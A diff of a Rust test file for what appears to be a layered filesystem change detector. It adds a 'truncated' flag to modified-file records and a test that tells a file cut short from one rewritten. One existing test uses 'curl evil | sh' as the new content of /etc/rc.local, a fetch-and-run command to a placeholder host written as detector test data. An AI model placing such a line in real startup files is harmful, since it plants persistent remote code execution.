@@ -146,7 +146,44 @@ fn a_modified_file_is_compared_with_the_lower_content() {
             path: at("/etc/profile"),
             old: digest_of(b"export A=1\n"),
             new: digest_of(b"export A=1\nappended\n"),
+            truncated: false,
         }]
+    );
+}
+
+#[test]
+fn a_file_cut_to_its_beginning_is_truncated_and_one_rewritten_shorter_is_not() {
+    let layers = Layers::new();
+    file(
+        &layers.lower,
+        "work/cut",
+        b"first line\nsecond line\n",
+        0o644,
+    );
+    file(&layers.upper, "work/cut", b"first line\n", 0o644);
+    file(
+        &layers.lower,
+        "work/index",
+        b"DIRC 245 bytes of an index\n",
+        0o644,
+    );
+    file(&layers.upper, "work/index", b"DIRC rewritten\n", 0o644);
+    assert_eq!(
+        layers.changes(),
+        vec![
+            FsChange::Modified {
+                path: at("/work/cut"),
+                old: digest_of(b"first line\nsecond line\n"),
+                new: digest_of(b"first line\n"),
+                truncated: true,
+            },
+            FsChange::Modified {
+                path: at("/work/index"),
+                old: digest_of(b"DIRC 245 bytes of an index\n"),
+                new: digest_of(b"DIRC rewritten\n"),
+                truncated: false,
+            },
+        ]
     );
 }
 
@@ -179,11 +216,13 @@ fn old_content_comes_from_the_topmost_lower_layer_that_has_the_path() {
                 path: at("/etc/a"),
                 old: digest_of(b"top\n"),
                 new: digest_of(b"new a\n"),
+                truncated: false,
             },
             FsChange::Modified {
                 path: at("/etc/b"),
                 old: digest_of(b"only in bottom\n"),
                 new: digest_of(b"new b\n"),
+                truncated: false,
             },
         ]
     );
@@ -225,6 +264,7 @@ fn a_modified_file_whose_mode_changed_reports_both() {
                 path: at("/etc/rc.local"),
                 old: digest_of(b"exit 0\n"),
                 new: digest_of(b"curl evil | sh\n"),
+                truncated: false,
             },
             FsChange::ModeChanged {
                 path: at("/etc/rc.local"),
@@ -499,6 +539,7 @@ fn changes_serialise_tagged_with_paths_as_strings_and_round_trip() {
             path: at("/etc/profile"),
             old: digest_of(b"a\n"),
             new: fresh.clone(),
+            truncated: false,
         },
         FsChange::Deleted {
             path: at("/etc/old.d"),
